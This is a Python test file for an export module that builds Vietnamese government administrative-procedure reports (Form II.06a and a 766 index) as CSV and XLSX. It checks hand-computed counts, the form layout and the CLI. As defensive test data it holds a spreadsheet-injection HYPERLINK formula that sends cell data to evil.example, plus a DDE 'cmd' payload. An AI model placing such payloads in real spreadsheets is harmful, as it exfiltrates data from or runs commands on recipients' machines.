"""Biểu II.06a: rows on the hand fixture, total = sum, the XLSX form layout, CSV BOM, formula injection, the CLI."""

from __future__ import annotations

import csv
import io
import subprocess
import sys
from collections.abc import Mapping
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from ioc.db import Database
from ioc.export import (
    FORMULA_TRIGGERS,
    UTF8_BOM,
    csv_bytes,
    csv_value,
    neutralize,
    set_cell,
    write_ii06a_csv,
    write_ii06a_xlsx,
    write_index766_csv,
    write_index766_xlsx,
)
from kpis import compute
from kpis.index766 import index_766_by_unit
from kpis.report_ii06a import COUNT_COLUMNS, FORM_CODE, FORM_TITLE, II06A_COLUMNS, Ii06aReport, build_ii06a
from tests.test_cli_kpi import ROWS as CLI_ROWS
from tests.test_kpis import MAIN_DOSSIERS, MAIN_TICKETS, PERIOD, UNIT_A, UNIT_B, load

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
GENERATED_AT = datetime(2026, 2, 16, 2, 30, tzinfo=UTC)  # 09:30 16/02/2026 local

# Unit A (Hải Vân), by hand from the comments in tests/test_kpis.py:
#   carried over D01, D02 = 2; received 11: online D05, D06, D08, D12, D13 = 5, in person D07, D10,
#   D14, D15, D17 + postal D09 = 6; total to process 13.
#   resolved D02 (early), D05 (due date), D06 (late), D07 (late), D08 (early) = 5: 2 / 1 / 2.
#   in progress D01, D12, D13, D14, D15, D17 = 6: within D12, D13, D15, D17 = 4, overdue D01, D14 = 2.
#   withdrawn D09 + stopped D10 = 2 (13 = 5 + 6 + 2).
#   on-time rate (2 + 1) / 5; late rate (2 + 2) / 13.
UNIT_A_ROW = {
    "received_total": 13,
    "received_online": 5,
    "received_in_person_postal": 6,
    "carried_over": 2,
    "resolved_total": 5,
    "resolved_early": 2,
    "resolved_on_time": 1,
    "resolved_late": 2,
    "in_progress_total": 6,
    "in_progress_within": 4,
    "in_progress_overdue": 2,
    "withdrawn_stopped": 2,
    "on_time_rate": 3 / 5,
    "late_rate": 4 / 13,
}
# Unit B (Liên Chiểu): received D18, D19, D20 in person; D18 resolved without a due date (on time);
# D19, D20 in progress within.
UNIT_B_ROW = {
    "received_total": 3,
    "received_online": 0,
    "received_in_person_postal": 3,
    "carried_over": 0,
    "resolved_total": 1,
    "resolved_early": 0,
    "resolved_on_time": 1,
    "resolved_late": 0,
    "in_progress_total": 2,
    "in_progress_within": 2,
    "in_progress_overdue": 0,
    "withdrawn_stopped": 0,
    "on_time_rate": 1.0,
    "late_rate": 0.0,
}
# The city: A + B (every other unit is empty): 16, 5, 9, 2 | 6, 2, 2, 2 | 8, 6, 2 | 2; 4/6, 4/16.
TOTAL_ROW = {
    "received_total": 16,
    "received_online": 5,
    "received_in_person_postal": 9,
    "carried_over": 2,
    "resolved_total": 6,
    "resolved_early": 2,
    "resolved_on_time": 2,
    "resolved_late": 2,
    "in_progress_total": 8,
    "in_progress_within": 6,
    "in_progress_overdue": 2,
    "withdrawn_stopped": 2,
    "on_time_rate": 4 / 6,
    "late_rate": 4 / 16,
}


@pytest.fixture
def main_store(store: Database) -> Database:
    load(store, MAIN_DOSSIERS, MAIN_TICKETS)
    # A hostile unit name (reference data can come from a spreadsheet someone edited).
    store.execute_write("UPDATE units SET full_name = ? WHERE unit_code = ?", [INJECTED, UNIT_B])
    return store


@pytest.fixture
def report(main_store: Database) -> Ii06aReport:
    return build_ii06a(
        main_store,
        PERIOD,
        reporting_unit="UBND thành phố Đà Nẵng",
        receiving_unit="Văn phòng Chính phủ",
        generated_at=GENERATED_AT,
    )


def assert_row(actual: Mapping[Any, Any], expected: dict[str, Any]) -> None:
    for key, value in expected.items():
        assert actual[key] == pytest.approx(value), key


def test_rows_match_hand_computed_values(report: Ii06aReport) -> None:
    rows = report.rows
    assert len(rows) == 94 + 1
    assert rows["stt"].tolist()[:3] == [1, 2, 3] and rows["stt"].iloc[-1] is None
    by_code = {row["unit_code"]: row for row in rows.to_dict(orient="records")}
    assert by_code[UNIT_A]["unit_name"] == "Phường Hải Vân"
    assert_row(by_code[UNIT_A], UNIT_A_ROW)
    assert_row(by_code[UNIT_B], UNIT_B_ROW)
    empty = by_code["21004"]
    assert empty["received_total"] == 0 and empty["on_time_rate"] is None and empty["late_rate"] is None
    total = rows.iloc[-1].to_dict()
    assert total["unit_name"] == "Tổng cộng"
    assert_row(total, TOTAL_ROW)


def test_total_row_is_the_sum_and_matches_the_city(report: Ii06aReport, main_store: Database) -> None:
    units, total = report.rows.iloc[:-1], report.rows.iloc[-1]
    for column in COUNT_COLUMNS:
        assert int(units[column].sum()) == total[column], column
    city = compute(main_store, PERIOD)
    assert total["received_total"] == city["to_process"]
    assert total["resolved_total"] == city["resolved"]
    assert total["on_time_rate"] == pytest.approx(city["on_time_rate"])
    assert total["late_rate"] == pytest.approx(city["late_rate"])
    # Every row balances: what was to process was resolved, is in progress, or was withdrawn/stopped.
    for row in report.rows.to_dict(orient="records"):
        assert row["received_total"] == row["resolved_total"] + row["in_progress_total"] + row["withdrawn_stopped"]
        assert row["received_total"] == row["received_online"] + row["received_in_person_postal"] + row["carried_over"]


def test_xlsx_is_laid_out_like_the_form(report: Ii06aReport, tmp_path: Path) -> None:
    path = tmp_path / "ii06a.xlsx"
    write_ii06a_xlsx(report, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    assert sheet["A1"].value == FORM_CODE == "Biểu số II.06a/VPCP/KSTT"
    assert sheet["A3"].value == FORM_TITLE
    assert "TÌNH HÌNH, KẾT QUẢ GIẢI QUYẾT TTHC" in FORM_TITLE
    assert sheet["L1"].value == "Đơn vị báo cáo: UBND thành phố Đà Nẵng"
    assert sheet["L2"].value == "Đơn vị nhận báo cáo: Văn phòng Chính phủ"
    assert sheet["A4"].value == "Kỳ báo cáo: từ ngày 02/02/2026 đến ngày 15/02/2026"
    assert "lập lúc 09:30 16/02/2026" in sheet["A5"].value
    merged = {str(cell_range) for cell_range in sheet.merged_cells.ranges}
    # STT and Đơn vị down the three header rows; the three groups across their sub-columns;
    # "Trong đó" over the three parts of the received group.
    assert {"A7:A9", "B7:B9", "C7:F7", "G7:J7", "K7:M7", "C8:C9", "D8:F8", "A3:P3"} <= merged
    assert (sheet["A7"].value, sheet["B7"].value) == ("STT", "Đơn vị")
    assert sheet["C7"].value == "Số hồ sơ nhận giải quyết"
    assert sheet["G7"].value == "Số hồ sơ đã giải quyết"
    assert sheet["K7"].value == "Số lượng hồ sơ đang giải quyết"
    assert [sheet.cell(8, column).value for column in (3, 4)] == ["Tổng số", "Trong đó"]
    assert [sheet.cell(9, column).value for column in (4, 5, 6)] == [
        "Trực tuyến",
        "Trực tiếp và dịch vụ bưu chính",
        "Từ kỳ trước",
    ]
    assert [sheet.cell(8, column).value for column in range(7, 14)] == [
        "Tổng số",
        "Trước hạn",
        "Đúng hạn",
        "Quá hạn",
        "Tổng số",
        "Trong hạn",
        "Quá hạn",
    ]
    assert sheet["A10"].value == "(1)" and sheet["P10"].value == "(16)"
    assert sheet.freeze_panes == "C11"
    assert sheet["A7"].border.left.style == "thin"
    assert sheet.column_dimensions["B"].width > sheet.column_dimensions["C"].width
    # Values: the first unit by code is Hải Vân (row 11); the total is row 11 + 94.
    assert (sheet["A11"].value, sheet["B11"].value) == (1, "Phường Hải Vân")
    unit_a = [sheet.cell(11, column).value for column in range(3, 3 + len(II06A_COLUMNS))]
    assert unit_a[:12] == [13, 5, 6, 2, 5, 2, 1, 2, 6, 4, 2, 2]
    assert unit_a[12] == pytest.approx(0.6) and unit_a[13] == pytest.approx(4 / 13)
    assert sheet["O11"].number_format == "0.00%"
    total_row = 11 + 94
    assert sheet.cell(total_row, 2).value == "Tổng cộng"
    assert sheet.cell(total_row, 2).font.bold
    assert [sheet.cell(total_row, column).value for column in range(3, 15)] == [16, 5, 9, 2, 6, 2, 2, 2, 8, 6, 2, 2]
    empty = [sheet.cell(total_row - 1, column).value for column in (15, 16)]  # Xã Tam Mỹ: nothing to rate
    assert empty == [None, None]


def test_xlsx_never_holds_a_formula(report: Ii06aReport, tmp_path: Path) -> None:
    path = tmp_path / "ii06a.xlsx"
    write_ii06a_xlsx(report, path)
    sheet = openpyxl.load_workbook(path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    injected = [cell for cell in cells if cell.value == INJECTED]
    assert len(injected) == 1  # Liên Chiểu's name, kept as text, marked as quoted text
    assert injected[0].data_type == "s" and injected[0].quotePrefix


def test_csv_has_bom_clean_header_and_neutralised_text(report: Ii06aReport, tmp_path: Path) -> None:
    path = tmp_path / "ii06a.csv"
    write_ii06a_csv(report, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[0][:4] == ["STT", "Mã đơn vị", "Đơn vị", "Số hồ sơ nhận giải quyết - Tổng số"]
    assert rows[0][-2:] == ["Tỷ lệ giải quyết trước hạn, đúng hạn (%)", "Tỷ lệ trễ hạn (%)"]
    assert len(rows) == 1 + 94 + 1
    unit_a = next(row for row in rows if row[1] == UNIT_A)
    assert unit_a[3:] == ["13", "5", "6", "2", "5", "2", "1", "2", "6", "4", "2", "2", "60.0", "30.77"]
    unit_b = next(row for row in rows if row[1] == UNIT_B)
    assert unit_b[2] == "'" + INJECTED
    assert rows[-1][:3] == ["", "", "Tổng cộng"]
    assert rows[-1][3:] == ["16", "5", "9", "2", "6", "2", "2", "2", "8", "6", "2", "2", "66.67", "25.0"]
    empty = next(row for row in rows if row[1] == "21004")
    assert empty[-2:] == ["", ""]  # a null rate is empty, never 0


def test_766_exports_are_guarded_too(main_store: Database, tmp_path: Path) -> None:
    frame = index_766_by_unit(main_store, PERIOD)
    csv_path, xlsx_path = tmp_path / "766.csv", tmp_path / "766.xlsx"
    write_index766_csv(frame, csv_path)
    write_index766_xlsx(
        frame,
        xlsx_path,
        period_text="02/02/2026 – 15/02/2026",
        reporting_unit=INJECTED,
        data_time=None,
        generated_at=GENERATED_AT,
    )
    raw = csv_path.read_bytes()
    assert raw.startswith(UTF8_BOM.encode("utf-8"))
    assert ("'" + INJECTED).replace('"', '""') in raw.decode("utf-8-sig")
    sheet = openpyxl.load_workbook(xlsx_path).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert "ƯỚC TÍNH" in sheet["A1"].value
    assert any(cell.value == INJECTED and cell.quotePrefix for cell in cells)


@pytest.mark.parametrize("trigger", FORMULA_TRIGGERS)
def test_every_trigger_is_neutralised(trigger: str) -> None:
    text = f"{trigger}cmd|' /C calc'!A0"
    assert neutralize(text) == "'" + text
    assert csv_value(text) == "'" + text
    assert csv_bytes(["h"], [[text]]).decode("utf-8-sig").splitlines()[1].strip('"').startswith("'")
    cell = set_cell(openpyxl.Workbook().active["A1"], text)  # type: ignore[index]
    assert cell.value == text and cell.data_type == "s" and cell.quotePrefix


def test_plain_values_are_left_alone() -> None:
    assert neutralize("Phường Hải Vân") == "Phường Hải Vân"
    assert csv_value(None) == "" and csv_value(float("nan")) == ""
    assert csv_value(-5) == -5  # a number is a number: only text can carry a formula
    cell = set_cell(openpyxl.Workbook().active["A1"], "Xã Bà Nà")  # type: ignore[index]
    assert cell.data_type == "s" and not cell.quotePrefix


# -- python -m ioc report, end to end ------------------------------------------------------------
# tests/test_cli_kpi.py's four dossiers, [2025-11-03, 2025-11-08):
#   20194: A online early, B in person late, C postal in progress overdue.
#   20197: D online in progress within.
#   total: 4 to process (online 2, in person/postal 2), resolved 2 (1 early, 1 late), in progress 2
#   (1 within, 1 overdue); on-time 1/2 = 50 %; late (1 + 1) / 4 = 50 %.


def run_cli(*args: str) -> subprocess.CompletedProcess[str]:
    root = Path(__file__).resolve().parent.parent
    return subprocess.run([sys.executable, "-m", "ioc", *args], capture_output=True, text=True, cwd=root, timeout=120)


@pytest.fixture(scope="module")
def cli_store(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("report-cli")
    source = folder / "dossiers.csv"
    source.write_text(CLI_ROWS, encoding="utf-8")
    path = folder / "store.duckdb"
    proc = run_cli("--db", str(path), "import", "dossiers", str(source))
    assert "4 rows read, 4 upserted, 0 rejected" in proc.stdout, proc.stdout + proc.stderr
    return path


def test_cli_report_ii06a_csv(cli_store: Path, tmp_path: Path) -> None:
    output = tmp_path / "form.csv"
    proc = run_cli(
        "--db", str(cli_store), "report", "--form", "ii06a", "--from", "2025-11-03", "--to", "2025-11-08", "--format", "csv",
        "--output", str(output),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    assert "94 units" in proc.stdout
    raw = output.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"))))
    assert rows[1][:3] == ["1", "20194", "Phường Hải Vân"]
    # 20194: on time 1/2; late (B resolved late + C in progress overdue) / 3 = 66.67 %.
    assert rows[1][3:] == ["3", "1", "2", "0", "2", "1", "0", "1", "1", "0", "1", "0", "50.0", "66.67"]
    assert rows[-1][2:] == ["Tổng cộng", "4", "2", "2", "0", "2", "1", "0", "1", "2", "1", "1", "0", "50.0", "50.0"]


def test_cli_report_ii06a_xlsx_and_stdout(cli_store: Path, tmp_path: Path) -> None:
    output = tmp_path / "form.xlsx"
    base = ("--db", str(cli_store), "report", "--form", "ii06a", "--from", "2025-11-03", "--to", "2025-11-08")
    proc = run_cli(*base, "--format", "xlsx", "--output", str(output), "--reporting-unit", "UBND xã Thử")
    assert proc.returncode == 0, proc.stderr
    sheet = openpyxl.load_workbook(output).active
    assert sheet is not None
    assert sheet["L1"].value == "Đơn vị báo cáo: UBND xã Thử"
    assert sheet["A4"].value == "Kỳ báo cáo: từ ngày 03/11/2025 đến ngày 07/11/2025"
    assert [sheet.cell(105, column).value for column in range(2, 7)] == ["Tổng cộng", 4, 2, 2, 0]
    piped = run_cli(*base, "--format", "csv", "--output", "-")
    assert piped.returncode == 0 and piped.stdout.lstrip(UTF8_BOM).startswith("STT,")
    refused = run_cli(*base, "--format", "xlsx", "--output", "-")
    assert refused.returncode == 2 and "stdout" in refused.stderr
    backwards = run_cli("--db", str(cli_store), "report", "--form", "ii06a", "--from", "2025-11-08", "--to", "2025-11-03")
    assert backwards.returncode == 2


def test_cli_report_766(cli_store: Path, tmp_path: Path) -> None:
    output = tmp_path / "766.csv"
    proc = run_cli(
        "--db", str(cli_store), "report", "--form", "766", "--from", "2025-11-03", "--to", "2025-11-08", "--format", "csv",
        "--output", str(output),
    )  # fmt: skip
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.reader(io.StringIO(output.read_text(encoding="utf-8-sig"))))
    assert rows[0][0] == "Mã đơn vị" and "Điểm ước tính" in rows[0]
    # 20197: D online, in progress within → 2.1 = 1/1 (20 points), 3.3 = 1/1 (4 points), 5.4 = 1 (6);
    # nothing resolved (4.2 null), no fee (3.6 null), no tickets (5.2, 5.3 null): 30 of 30.
    lien_chieu = dict(zip(rows[0], next(row for row in rows if row[0] == "20197"), strict=True))
    assert lien_chieu["Điểm ước tính"] == "30.0"
    assert lien_chieu["Điểm tối đa của các chỉ số có dữ liệu"] == "30.0"
    assert lien_chieu["Điểm 3.6 (tối đa 6)"] == ""
